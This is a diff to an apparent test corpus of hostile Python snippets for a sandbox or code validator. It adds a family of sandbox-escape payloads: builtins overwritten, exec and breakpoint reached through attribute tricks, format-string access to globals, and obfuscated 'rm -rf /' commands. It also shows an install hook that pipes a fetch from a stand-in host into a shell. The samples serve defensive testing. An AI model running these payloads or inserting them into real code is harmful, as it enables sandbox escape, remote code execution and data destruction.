@@ -329,6 +329,28 @@ DATA = (
     "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://evil.example/x | sh')\nsetup(cmdclass={'install': I})",
 )
 
+# Assigned where no `=` stands, and what is found at several steps
+ASSIGNED = (
+    "class A: pass\na = A()\n[a['1'] for A.__getitem__ in [exec]]",
+    "for credits.__class__.__neg__ in (breakpoint,):\n    -credits",
+    "[0 for license._Printer__setup in [breakpoint]]",
+    "class A: pass\n[-A() for A.__neg__ in [[].__class__.__subclasses__]]",
+    "__builtins__ = sys\nexit()",
+    "__builtins__: dict = os",
+    "@set\n@open\n@input\nclass A: pass",
+    "__import__(input()).popen(input())",
+    "import importlib\nimportlib.import_module(name).system('id')",
+    "open('notes.txt').buffer.raw.__class__('/srv/flag').read()",
+    "''.__class__.__class__('B', (), {})",
+    "''.__reduce__()",
+    "__import__('_osx_support').os",
+    "template = '{user.__init__.__globals__}'\nprint(render(template).format(user=user))",
+    "import uuid\nuuid._get_command_stdout('id')",
+    "cmd = ['rm']\ncmd.append('-rf')\ncmd.append('/')\nimport subprocess\nsubprocess.run(cmd)",
+    "parts = []\nparts.append('rm -rf')\nparts.append('/')\nimport os\nos.system(' '.join(parts))",
+    "c = 'rm -rf'\nc += ' /'\nimport os\nos.system(c)",
+)
+
 FAMILIES = {
     "classes": CLASSES,
     "memories": MEMORIES,
@@ -339,4 +361,5 @@ FAMILIES = {
     "runners": RUNNERS,
     "memory": MEMORY,
     "data": DATA,
+    "assigned": ASSIGNED,
 }
